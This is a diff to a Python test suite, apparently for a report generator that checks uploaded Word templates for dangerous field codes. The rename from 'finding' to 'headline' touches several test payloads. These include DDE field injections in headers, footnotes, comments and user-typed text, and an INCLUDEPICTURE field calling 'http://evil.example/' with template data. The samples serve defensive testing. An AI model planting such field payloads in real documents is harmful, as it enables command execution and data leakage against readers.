@@ -77,13 +77,13 @@ def test_no_way_of_writing_hides_a_field(runs: str) -> None:
 
 
 def test_fields_are_found_in_heads_footnotes_and_comments() -> None:
-    head = template("{{ finding }}", header="HERE")
+    head = template("{{ headline }}", header="HERE")
     (name,) = [each for each in ("word/header1.xml", "word/header2.xml") if each in names(head)]
     with_head = repacked(
         head, {name: part(head, name).replace(b"<w:t>HERE</w:t>", b"<w:instrText>DDE a b</w:instrText>")}
     )
     noted = with_footnote(
-        template("{{ finding }}"), "x</w:t></w:r><w:r><w:instrText>DDE a b</w:instrText></w:r><w:r><w:t>"
+        template("{{ headline }}"), "x</w:t></w:r><w:r><w:instrText>DDE a b</w:instrText></w:r><w:r><w:t>"
     )
     comments = f'<w:comments xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:comment w:id="1"><w:p>{complex_field("DDE a b")}</w:p></w:comment></w:comments>'
     commented = with_part(
@@ -115,14 +115,14 @@ def test_an_ordinary_link_stays() -> None:
     for address in ("https://example.com/a?b=c", "http://example.com", "MAILTO:ines@example.com"):
         assert (
             template_problems(
-                related(template("{{ finding }}"), LINK.format(RELATIONS, "hyperlink", address))
+                related(template("{{ headline }}"), LINK.format(RELATIONS, "hyperlink", address))
             )
             == []
         )
 
 
 def test_what_people_typed_makes_no_field() -> None:
-    typed = '</w:t></w:r><w:fldSimple w:instr="DDE a b"/> { DDE a b } ' + "{{ finding }}"
+    typed = '</w:t></w:r><w:fldSimple w:instr="DDE a b"/> { DDE a b } ' + "{{ headline }}"
     made = report_docx(
         document(decision={"reason": typed}),
         number=1,
@@ -138,7 +138,7 @@ def test_a_template_of_before_is_not_handed_on(signed_in: SignIn, carol: User, r
     DocxTemplate.objects.create(
         organisation=report.organisation,
         name="own.docx",
-        docx=with_paragraph(complex_field("INCLUDEPICTURE &quot;http://evil.example/{{ finding }}&quot;")),
+        docx=with_paragraph(complex_field("INCLUDEPICTURE &quot;http://evil.example/{{ headline }}&quot;")),
         sha256="0" * 64,
         uploaded_at=factories.NOW,
     )
@@ -152,11 +152,11 @@ def test_a_template_of_before_is_not_handed_on(signed_in: SignIn, carol: User, r
 
 def test_a_tag_in_a_code_is_refused_but_around_a_field_it_stays() -> None:
     split = (
-        f"{BEGIN}<w:r><w:t>{{%r if not finding %}}</w:t></w:r>{code('REF ')}<w:r><w:t>{{%r endif %}}</w:t></w:r>"
+        f"{BEGIN}<w:r><w:t>{{%r if not headline %}}</w:t></w:r>{code('REF ')}<w:r><w:t>{{%r endif %}}</w:t></w:r>"
         f"{code('AUTOTEXT')}{END}"
     )
     assert template_problems(with_paragraph(split))
-    around = f"<w:r><w:t>{{%r if finding %}}</w:t></w:r>{complex_field('PAGE')}<w:r><w:t>{{%r endif %}}</w:t></w:r>"
+    around = f"<w:r><w:t>{{%r if headline %}}</w:t></w:r>{complex_field('PAGE')}<w:r><w:t>{{%r endif %}}</w:t></w:r>"
     assert template_problems(with_paragraph(around)) == []
     made = report_docx(document(), number=1, fingerprint="f", template=with_paragraph(around))
     assert b"PAGE" in part(made, BODY)
